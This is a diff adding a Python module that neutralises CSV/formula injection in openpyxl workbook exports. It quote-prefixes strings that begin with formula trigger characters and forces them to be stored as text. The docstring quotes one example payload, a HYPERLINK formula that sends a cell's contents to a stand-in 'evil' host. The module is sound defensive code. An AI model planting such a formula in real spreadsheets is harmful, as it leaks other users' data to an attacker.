@@ -1,0 +1,57 @@
+"""Text cells a spreadsheet will never run: the one rule every exported workbook follows.
+
+OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): a cell whose text
+starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel and LibreOffice as a
+formula, so a follow-up note such as `=HYPERLINK("http://evil?"&B2,"click")` typed by one party
+would run in another party's copy of the export. The rule, applied to every TEXT value written:
+
+- a string starting with one of those six characters is written prefixed with a single quote
+  (`'=HYPERLINK(...)`), the guidance's own defence: the text stays inert when the cell is edited,
+  copied or saved as CSV;
+- every string is stored as a string cell (openpyxl `data_type` "s"): openpyxl itself turns a
+  string starting with `=` into a formula and `#N/A` into an error value unless told otherwise;
+- anything that is not a string (Decimal and int amounts, negative ones included, dates, None)
+  is written unchanged, so numbers stay numbers and dates stay dates.
+
+Plain Python, no Django: the workbook writers of every app call `append_row` (or `safe_text`).
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+from typing import Any, TypeVar, overload
+
+from openpyxl.worksheet.worksheet import Worksheet
+
+__all__ = ["FORMULA_TRIGGERS", "append_row", "safe_text"]
+
+# The first characters that make a spreadsheet read a cell as a formula (OWASP CSV Injection).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+_V = TypeVar("_V")
+
+
+@overload
+def safe_text(value: str) -> str: ...
+@overload
+def safe_text(value: _V) -> _V: ...
+def safe_text(value: object) -> object:
+    """`value` prefixed with `'` when it is a string starting with one of FORMULA_TRIGGERS;
+    any other string, and any value that is not a string, unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
+def append_row(ws: Worksheet, values: Iterable[Any]) -> None:
+    """Append one row below the sheet's last: every string through `safe_text` and stored as a
+    string cell (never a formula or an error value), every other value as it is."""
+    row = [safe_text(value) for value in values]
+    if not row:
+        return
+    ws.append(row)
+    # append writes below every existing row, so the sheet's last row is the one just written.
+    written = ws.max_row
+    for column, value in enumerate(row, 1):
+        if isinstance(value, str):
+            ws.cell(row=written, column=column).data_type = "s"
